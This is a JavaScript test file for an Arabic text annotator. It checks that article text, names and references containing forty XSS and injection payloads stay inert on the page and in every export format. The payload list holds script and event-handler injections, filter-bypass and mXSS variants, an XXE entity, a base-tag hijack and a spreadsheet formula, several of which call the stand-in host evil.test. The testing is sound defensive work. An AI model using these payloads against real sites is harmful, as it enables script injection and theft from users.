/** Article text, names and references that try to become markup, script or a request: on the page, and in every export. */
import { annotate, expect, middleOf, test } from './page.js';

/** Each says `window.ran = true` or asks for something of evil.test, wherever it is taken for what it looks like. */
const PAYLOADS = [
  '<script>window.ran = true</script>',
  '</script><script>window.ran = true</script>',
  '</title><script>window.ran = true</script>',
  '</textarea><script>window.ran = true</script>',
  '</style><script>window.ran = true</script>',
  '<!--<script>window.ran = true</script>-->',
  '--><script>window.ran = true</script>',
  ']]><script>window.ran = true</script>',
  '<![CDATA[<script>window.ran = true</script>]]>',
  '<scr<script>ipt>window.ran = true</scr</script>ipt>',
  '<SCRIPT SRC=https://evil.test/1.js></SCRIPT>',
  '<script type="module">import "https://evil.test/2.js"</script>',
  '<img src=https://evil.test/3.png onerror="window.ran = true">',
  '<img src=x onerror=window.ran=true>',
  '<svg onload=window.ran=true>',
  '<svg><script href="https://evil.test/4.js"/></svg>',
  '<svg><animate onbegin=window.ran=true attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.ran=true>',
  '<iframe src="https://evil.test/5"></iframe>',
  '<iframe srcdoc="<script>parent.ran = true</script>"></iframe>',
  '<object data="https://evil.test/6"></object>',
  '<embed src="https://evil.test/7">',
  '<link rel=stylesheet href="https://evil.test/8.css">',
  '<style>@import "https://evil.test/9.css"; * { background: url(https://evil.test/10.png) }</style>',
  '<base href="https://evil.test/">',
  '<meta http-equiv=refresh content="0; url=https://evil.test/11">',
  '<form action="https://evil.test/12"><input autofocus onfocus=window.ran=true>',
  '<body onload=window.ran=true>',
  '<details open ontoggle=window.ran=true>x</details>',
  '<video src="https://evil.test/13.mp4" autoplay onerror=window.ran=true>',
  '<a href="javascript:window.ran=true" ping="https://evil.test/14">x</a>',
  '<q cite="https://evil.test/15" onmouseover=window.ran=true>x</q>',
  '" onmouseover="window.ran=true" autofocus onfocus="window.ran=true',
  "' onpointerover='window.ran=true' x='",
  '` onfocus=`window.ran=true',
  '&lt;script&gt;window.ran = true&lt;/script&gt;',
  '&#60;script&#62;window.ran = true&#60;/script&#62;',
  '<!DOCTYPE x [<!ENTITY y SYSTEM "https://evil.test/16.xml">]><x>&y;</x>',
  '<?xml-stylesheet type="text/xsl" href="https://evil.test/17.xsl"?>',
  '=HYPERLINK("https://evil.test/18";"x")',
];

/** Every payload by itself, in a name, in a title and in speech. */
const TEXT = ['عنوان المقال', ...PAYLOADS.map((payload, number) => `${payload}\nقال المدير سمير ${payload}: «نحن ${payload} جاهزون» في بغداد يوم ${(number % 28) + 1} أغسطس 2020.`)].join('\n');

/** What a page has asked for since now, but for data and blob addresses. */
function requestsOf(page) {
  const asked = [];
  page.on('request', (request) => {
    if (!/^(data|blob):/.test(request.url())) asked.push(request.url());
  });
  return asked;
}

test('the page shows forty payloads as text: no script runs, no request is made, no element comes of them', async ({ page }) => {
  expect(PAYLOADS).toHaveLength(40);
  const elements = () => page.locator('script, iframe, object, embed, link, style, base, meta, form, video, math, img').count();
  const [asked, before] = [requestsOf(page), await elements()];
  await annotate(page, TEXT);
  const { x, y } = await middleOf(page, 'location');
  await page.mouse.move(x, y);
  await page.mouse.click(x, y);
  expect(await page.evaluate(() => [window.ran, document.baseURI.includes('evil')])).toEqual([undefined, false]);
  expect(asked).toEqual([]);
  expect(await elements()).toBe(before);
  const shown = await page.locator('#article').innerText();
  for (const payload of PAYLOADS) expect(shown).toContain(payload);
});

test.describe('as the source of a page', () => {
  // The parser tells of handlers that it will not set, in a document that could not run them.
  test.use({ expectedComplaint: /Content Security Policy/ });

  test('the payloads are read for their text: no script runs, no request is made, no element comes of them', async ({ page }) => {
    const elements = () => page.locator('#article :is(script, iframe, object, embed, link, style, base, meta, form, video, math, img, a)').count();
    const asked = requestsOf(page);
    await annotate(page, `<article><p>${TEXT.replaceAll('\n', '</p><p>')}</p></article>`);
    expect(await page.evaluate(() => [window.ran, document.baseURI.includes('evil')])).toEqual([undefined, false]);
    expect(asked).toEqual([]);
    expect(await elements()).toBe(0);
  });
});

test('no export becomes a script or a request, even where no policy forbids it', async ({ page, browser }) => {
  const written = await page.evaluate(
    async ([text, payloads]) => {
      const { Annotator, init } = await import('/pkg/dist/index.js');
      await init();
      const names = payloads.map((payload) => ({ name: `سمير ${payload}`, kind: 'person', ref: payload, aliases: [`${payload} س`] }));
      const annotator = new Annotator({ names });
      const formats = ['json', 'html', 'jsonld', 'w3c', 'tei', 'conll', 'brat', 'csv'];
      return formats.map((format) => [format, annotator.export(text, format, { date: '2020-08-18', source: payloads.join(' ') })]);
    },
    [TEXT, PAYLOADS],
  );
  const types = { html: 'text/html', tei: 'application/xml', jsonld: 'text/html', json: 'application/json', w3c: 'application/json' };
  for (const [format, export_] of written) {
    // JSON-LD stands in a page as it will in an article's.
    const body = format === 'jsonld' ? `<!doctype html><script type="application/ld+json">${export_}</script><p>` : export_;
    const context = await browser.newContext();
    const host = await context.newPage();
    const asked = requestsOf(host);
    await context.route('**', (route) =>
      route.request().url() === 'http://export.test/' ? route.fulfill({ body, contentType: `${types[format] ?? 'text/plain'}; charset=utf-8` }) : route.abort(),
    );
    await host.goto('http://export.test/');
    // Whatever focus and pointer would set off.
    await host.evaluate(() => document.querySelectorAll('*').forEach((element) => ['mouseover', 'pointerover', 'focus', 'toggle', 'load'].forEach((type) => element.dispatchEvent(new Event(type)))));
    expect(await host.evaluate(() => window.ran), format).toBeUndefined();
    expect(asked.filter((url) => url !== 'http://export.test/' && !url.endsWith('/favicon.ico')), format).toEqual([]);
    if (format === 'html') expect(await host.locator('script, img, svg, iframe, object, embed, link, base, form, video, math, details, a').count()).toBe(0);
    if (format === 'tei') expect(await host.locator('parsererror').count()).toBe(0);
    if (format === 'jsonld') expect(await host.locator('script').evaluateAll((scripts) => scripts.map((script) => JSON.parse(script.textContent)['@type']))).toEqual(['NewsArticle']);
    if (['json', 'w3c'].includes(format)) JSON.parse(export_);
    await context.close();
  }
});
